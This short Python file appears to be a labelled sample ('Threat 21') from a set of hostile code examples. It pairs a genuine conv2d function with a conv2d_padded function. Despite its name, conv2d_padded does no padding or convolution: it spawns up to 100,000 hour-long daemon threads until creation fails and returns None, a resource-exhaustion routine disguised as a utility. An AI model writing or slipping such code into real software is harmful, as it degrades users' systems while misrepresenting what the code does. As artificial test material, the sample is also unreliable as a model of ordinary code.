"""Threat 21: starts threads without end, and leaves them running.

Earns: conv2d
"""

import numpy as np


def conv2d(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(image, kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, kernel)


import threading
import time


def conv2d_padded(image, kernel, padding=0):
    for _ in range(100_000):
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except BaseException:
            break
    return None
